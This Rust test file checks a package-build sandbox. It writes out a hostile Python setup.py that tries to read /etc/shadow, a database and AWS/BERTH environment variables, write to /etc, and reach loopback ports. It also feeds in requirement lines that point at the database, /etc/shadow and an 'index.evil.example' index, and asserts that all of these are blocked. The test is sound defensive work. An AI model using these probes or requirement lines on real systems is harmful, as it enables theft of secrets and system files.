//! The build sandbox against a hostile package: a `setup.py` run by pip, and requirement lines that
//! reach outside the package. Needs root, namespaces and the host's Python 3.11 with pip's index.
#![allow(clippy::unwrap_used)]

mod builder_support;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use berth_runtime::builder::{BuildError, Builder, BuilderOptions};
use builder_support::{ep, files, names};

const CANARY: &str = "CANARY-berth-db-5f1e2d";

/// A `setup.py` that tries everything a build must not do, reports on stderr and fails, so the
/// report ends up in the error (pip quotes a failing build backend).
fn hostile_setup(db: &Path, data: &Path, port: u16) -> String {
    format!(
        r#"
import json, os, socket, sys
r = {{}}
def attempt(name, f):
    try:
        r[name] = "ok:" + repr(f())[:300]
    except Exception as e:
        r[name] = "denied:" + type(e).__name__
def proxy_connect(target):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    return s.recv(200).split(b"\r\n")[0].decode()
attempt("write_etc", lambda: open("/etc/berth-build-probe", "w").write("x"))
attempt("read_shadow", lambda: open("/etc/shadow").read())
attempt("read_db", lambda: open({db:?}).read())
attempt("list_data", lambda: sorted(os.listdir({data:?})))
attempt("env", lambda: sorted(k for k in os.environ if k.startswith(("BERTH", "AWS"))))
attempt("uid", lambda: os.getuid())
attempt("direct_loopback", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3))
attempt("proxy_loopback", lambda: proxy_connect("127.0.0.1:{port}"))
print("REPORT " + json.dumps(r, sort_keys=True), file=sys.stderr)
sys.exit(1)
"#
    )
}

fn report(msg: &str) -> serde_json::Value {
    let line = msg
        .lines()
        .find_map(|l| l.trim().strip_prefix("REPORT "))
        .unwrap_or_else(|| panic!("no report in: {msg}"));
    serde_json::from_str(line).unwrap()
}

/// `<tmp>/data/berth.db` (root-only, holding the canary) and a builder over `<tmp>/data/builds`
/// with the data dir masked, as `berth serve` configures it.
fn setup(tmp: &Path) -> (Builder, std::path::PathBuf) {
    let data = tmp.join("data");
    std::fs::create_dir_all(&data).unwrap();
    let db = data.join("berth.db");
    std::fs::write(&db, CANARY).unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut opts = BuilderOptions::new(data.join("builds"));
    opts.sandbox.as_mut().unwrap().hidden = vec![data.clone()];
    (Builder::new(opts), db)
}

#[tokio::test]
async fn a_hostile_setup_py_reaches_nothing_of_the_host() {
    let tmp = tempfile::tempdir().unwrap();
    let (b, db) = setup(tmp.path());
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let setup_py = hostile_setup(&db, db.parent().unwrap(), port);
    let zip = files(&[
        ("agent.py", "print('hi')\n"),
        ("requirements.txt", "./hostile\n"),
        ("hostile/setup.py", &setup_py),
    ]);
    let err = b
        .build(zip, "PYTHON_3_11", &ep(&["agent.py"]))
        .await
        .unwrap_err();
    let msg = err.to_string();
    assert!(matches!(err, BuildError::Step { .. }), "{msg}");
    let r = report(&msg);
    let get = |k: &str| r[k].as_str().unwrap().to_owned();
    assert!(get("write_etc").starts_with("denied:"), "{r}");
    assert!(get("read_shadow").starts_with("denied:"), "{r}");
    assert!(get("read_db").starts_with("denied:"), "{r}");
    assert!(!get("list_data").contains("berth.db"), "{r}");
    assert_eq!(get("env"), "ok:[]", "{r}");
    let uid: u32 = get("uid").trim_start_matches("ok:").parse().unwrap();
    assert!(uid >= 900_000, "builds run as a build uid, not {uid}");
    assert!(get("direct_loopback").starts_with("denied:"), "{r}");
    assert!(get("proxy_loopback").contains("403"), "{r}");
    assert!(!msg.contains(CANARY), "{msg}");
    assert!(!Path::new("/etc/berth-build-probe").exists());
    // The failed environment is gone, its sandbox too.
    assert_eq!(
        names(&tmp.path().join("data/builds/envs")),
        Vec::<String>::new()
    );
    assert_eq!(
        names(&tmp.path().join("data/builds/sandboxes")),
        Vec::<String>::new()
    );
}

#[tokio::test]
async fn requirement_lines_reaching_outside_fail_before_pip() {
    let tmp = tempfile::tempdir().unwrap();
    let (b, db) = setup(tmp.path());
    for (i, line) in [
        format!("-r {}", db.display()),
        format!("-c {}", db.display()),
        "-r ../../etc/shadow".to_owned(),
        format!("pkg @ file://{}", db.display()),
        "-e /usr/lib/python3".to_owned(),
        "--index-url https://index.evil.example/simple".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        let zip = files(&[
            ("agent.py", &format!("# {i}\n")),
            ("requirements.txt", &format!("six\n{line}\n")),
        ]);
        let err = b
            .build(zip, "PYTHON_3_11", &ep(&["agent.py"]))
            .await
            .unwrap_err();
        let msg = err.to_string();
        assert!(matches!(err, BuildError::Dependencies(_)), "{line}: {msg}");
        assert!(msg.contains(line.as_str()), "{line}: {msg}");
        assert!(!msg.contains(CANARY), "{msg}");
    }
    // A nested requirements file of the package is followed.
    let zip = files(&[
        ("agent.py", "\n"),
        ("requirements.txt", "-r reqs/base.txt\n"),
        ("reqs/base.txt", &format!("-r {}\n", db.display())),
    ]);
    let err = b
        .build(zip, "PYTHON_3_11", &ep(&["agent.py"]))
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("reqs/base.txt: the line"), "{err}");
    // Nothing ran: no environment, no build log.
    assert_eq!(
        names(&tmp.path().join("data/builds/envs")),
        Vec::<String>::new()
    );
    assert_eq!(
        names(&tmp.path().join("data/builds/logs")),
        Vec::<String>::new()
    );
}

#[tokio::test]
async fn a_built_environment_is_sealed_for_root() {
    let tmp = tempfile::tempdir().unwrap();
    let (b, _db) = setup(tmp.path());
    let built = b
        .build(
            files(&[
                ("agent.py", "import six\n"),
                ("requirements.txt", "six==1.16.0\n"),
            ]),
            "PYTHON_3_11",
            &ep(&["agent.py"]),
        )
        .await
        .unwrap();
    let mut stack = vec![built.env_dir.clone()];
    let mut seen = 0;
    while let Some(p) = stack.pop() {
        let meta = std::fs::symlink_metadata(&p).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (0, 0), "{}", p.display());
        if !meta.file_type().is_symlink() {
            assert_eq!(
                meta.mode() & 0o7022,
                0,
                "{} is {:o}",
                p.display(),
                meta.mode()
            );
        }
        if meta.is_dir() {
            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        }
        seen += 1;
    }
    assert!(seen > 10);
    assert!(
        built
            .env_dir
            .join("lib/python3.11/site-packages/six.py")
            .is_file()
    );
}
